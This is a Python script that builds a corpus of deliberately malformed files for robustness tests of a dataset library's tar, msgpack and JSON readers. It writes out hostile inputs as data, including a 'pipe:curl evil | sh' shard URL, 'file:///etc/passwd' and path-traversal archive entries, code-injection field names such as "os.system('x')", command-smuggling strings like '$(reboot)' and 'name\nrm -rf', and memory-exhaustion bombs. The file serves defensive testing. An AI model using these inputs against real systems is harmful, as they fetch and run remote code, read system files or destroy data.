"""Regenerate the bad-input corpus: ``python tests/corpus/make_corpus.py``.

Each file is small and hostile in one way; ``tests/reliability/test_corpus.py`` feeds every one to
the readers and expects a clear ``AtdataError`` (or a marked bad sample), never a crash, never
unbounded memory, never a file written outside the store.
"""

from __future__ import annotations

import json
import struct
from pathlib import Path

import msgpack

HERE = Path(__file__).parent
KEY = "baefe796-e53b-11f1-8000-000000000000"


def header(
    name: bytes, size: int, *, typeflag: bytes = b"0", size_field: bytes | None = None
) -> bytes:
    h = bytearray(512)
    h[: len(name)] = name[:100]
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = size_field if size_field is not None else b"%011o\0" % size
    h[136:148] = b"00000000000\0"
    h[148:156] = b"        "
    h[156:157] = typeflag
    h[257:265] = b"ustar\x0000"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def member(name: bytes, data: bytes, **kw: object) -> bytes:
    return header(name, len(data), **kw) + data + bytes(-len(data) % 512)  # type: ignore[arg-type]


def tar(*members: bytes) -> bytes:
    return b"".join(members) + bytes(1024)


def good_sample(i: int) -> bytes:
    return msgpack.packb({"text": f"sample {i}", "n": i}, use_bin_type=True)


def ndarray_blob(dtype: bytes, shape: tuple[int, ...], payload: bytes = b"") -> bytes:
    return (
        bytes([len(dtype)])
        + dtype
        + bytes([len(shape)])
        + struct.pack(f"<{len(shape)}q", *shape)
        + payload
    )


def nested(depth: int) -> bytes:
    return b"\x91" * depth + b"\xc0"  # fixarray of one element, depth times, then nil


CORPUS: dict[str, bytes] = {
    "truncated.tar": tar(
        *(member(f"{KEY[:-2]}{i:02d}.msgpack".encode(), good_sample(i)) for i in range(3))
    )[:1300],
    "bad-checksum.tar": (lambda t: t[:148] + b"000000\0 " + t[156:])(
        tar(member(b"k.msgpack", good_sample(0)))
    ),
    "path-traversal.tar": tar(member(b"../../x.msgpack", good_sample(0))),
    "absolute-path.tar": tar(member(b"/etc/passwd.msgpack", good_sample(0))),
    "huge-size-header.tar": header(
        b"k.msgpack", 0, size_field=b"\x80" + (2**80).to_bytes(11, "big")
    )
    + bytes(1024),
    "huge-pax-header.tar": tar(header(b"././@PaxHeader", 1 << 30, typeflag=b"x")),
    "not-msgpack.tar": tar(member(b"k.msgpack", b"\xc1\xc1 this is not msgpack")),
    "msgpack-not-a-map.tar": tar(member(b"k.msgpack", msgpack.packb([1, 2, 3]))),
    "msgpack-deep-nesting.tar": tar(member(b"k.msgpack", b"\x81\xa1x" + nested(200_000))),
    "msgpack-huge-map-length.tar": tar(member(b"k.msgpack", b"\xdf\xff\xff\xff\xff")),
    "msgpack-huge-str-length.tar": tar(member(b"k.msgpack", b"\x81\xa1x\xdb\xff\xff\xff\xf0abc")),
    "ndarray-absurd-shape.tar": tar(
        member(
            b"k.msgpack",
            msgpack.packb({"a": ndarray_blob(b"<f4", (2**40, 2**20))}, use_bin_type=True),
        )
    ),
    "ndarray-negative-dim.tar": tar(
        member(b"k.msgpack", msgpack.packb({"a": ndarray_blob(b"<f4", (-1, 4))}, use_bin_type=True))
    ),
    "ndarray-object-dtype.tar": tar(
        member(
            b"k.msgpack",
            msgpack.packb({"a": ndarray_blob(b"|O", (1,), bytes(8))}, use_bin_type=True),
        )
    ),
    "ndarray-many-dims.tar": tar(
        member(
            b"k.msgpack",
            msgpack.packb({"a": bytes([3]) + b"<f4" + bytes([255]) + bytes(64)}, use_bin_type=True),
        )
    ),
    "bad-sample-in-the-middle.tar": tar(
        member(b"a.msgpack", good_sample(0)),
        member(b"b.msgpack", b"\xc1garbage"),
        member(b"c.msgpack", good_sample(2)),
    ),
    "not-a-tar.tar": b"\x89PNG\r\n\x1a\n" + bytes(2000),
}

SCHEMAS: dict[str, object] = {
    "schema-field-code-injection.json": {
        "name": "Evil",
        "version": "1.0.0",
        "fields": [
            {
                "name": "x: int\nimport os",
                "fieldType": {"$type": "local#primitive", "primitive": "int"},
                "optional": False,
            }
        ],
    },
    "schema-dunder-field.json": {
        "name": "Evil",
        "version": "1.0.0",
        "fields": [
            {
                "name": "__class__",
                "fieldType": {"$type": "local#primitive", "primitive": "int"},
                "optional": False,
            }
        ],
    },
    "schema-unknown-type.json": {
        "name": "Evil",
        "version": "1.0.0",
        "fields": [{"name": "x", "fieldType": {"$type": "local#pickle"}, "optional": False}],
    },
    "schema-name-is-code.json": {"name": "os.system('x')", "version": "1.0.0", "fields": []},
    "schema-fields-not-a-list.json": {"name": "Evil", "version": "1.0.0", "fields": "everything"},
    "schema-deep-items.json": {
        "name": "Evil",
        "version": "1.0.0",
        "fields": [
            {
                "name": "x",
                "fieldType": json.loads(
                    '{"$type": "local#array", "items": ' * 500
                    + '{"$type": "local#primitive", "primitive": "int"}'
                    + "}" * 500
                ),
                "optional": False,
            }
        ],
    },
}

RECORDS: dict[str, object] = {
    "entry-missing-storage.json": {
        "$type": "science.alt.dataset.entry",
        "name": "x",
        "schemaRef": "at://did:plc:abcdefghijklmnopqrstuvwx/science.alt.dataset.schema/a",
        "createdAt": "2026-01-01T00:00:00Z",
    },
    "entry-name-is-a-number.json": {
        "$type": "science.alt.dataset.entry",
        "name": 42,
        "schemaRef": "at://did:plc:abcdefghijklmnopqrstuvwx/science.alt.dataset.schema/a",
        "storage": {"$type": "science.alt.dataset.storageHttp", "shards": []},
        "createdAt": "2026-01-01T00:00:00Z",
    },
    "entry-file-url.json": {
        "$type": "science.alt.dataset.entry",
        "name": "x",
        "schemaRef": "at://did:plc:abcdefghijklmnopqrstuvwx/science.alt.dataset.schema/a",
        "storage": {
            "$type": "science.alt.dataset.storageHttp",
            "shards": [
                {"url": "file:///etc/passwd", "checksum": {"algorithm": "none", "digest": ""}}
            ],
        },
        "createdAt": "2026-01-01T00:00:00Z",
    },
    "entry-pipe-url.json": {
        "$type": "science.alt.dataset.entry",
        "name": "x",
        "schemaRef": "at://did:plc:abcdefghijklmnopqrstuvwx/science.alt.dataset.schema/a",
        "storage": {
            "$type": "science.alt.dataset.storageHttp",
            "shards": [
                {"url": "pipe:curl evil | sh", "checksum": {"algorithm": "none", "digest": ""}}
            ],
        },
        "createdAt": "2026-01-01T00:00:00Z",
    },
    "entry-shards-not-a-list.json": {
        "$type": "science.alt.dataset.entry",
        "name": "x",
        "schemaRef": "at://did:plc:abcdefghijklmnopqrstuvwx/science.alt.dataset.schema/a",
        "storage": {"$type": "science.alt.dataset.storageHttp", "shards": "all of them"},
        "createdAt": "2026-01-01T00:00:00Z",
    },
    "entry-brace-bomb.json": {
        "$type": "science.alt.dataset.entry",
        "name": "x",
        "schemaRef": "at://did:plc:abcdefghijklmnopqrstuvwx/science.alt.dataset.schema/a",
        "storage": {
            "$type": "science.alt.dataset.storageHttp",
            "shards": [
                {
                    "url": "https://x.example/{0..999999999}.tar",
                    "checksum": {"algorithm": "none", "digest": ""},
                }
            ],
        },
        "createdAt": "2026-01-01T00:00:00Z",
    },
}

REFS = [
    "",
    " ",
    "@",
    "@/x",
    "a/b/c",
    "../../etc/passwd",
    "x\u0000y",
    "name\nrm -rf",
    "@evil handle/x",
    "at://",
    "at://did:plc:x/y",
    "at://did:plc:abcdefghijklmnopqrstuvwx/../../x/y",
    "name@",
    "ä" * 300,
    "$(reboot)",
    "`id`",
    "%00",
    "\u202etxt.exe",
]


def main() -> None:
    for name, data in CORPUS.items():
        (HERE / name).write_bytes(data)
    for name, doc in {**SCHEMAS, **RECORDS}.items():
        (HERE / name).write_text(json.dumps(doc))
    (HERE / "refs.json").write_text(json.dumps(REFS, ensure_ascii=False, indent=0))


if __name__ == "__main__":
    main()
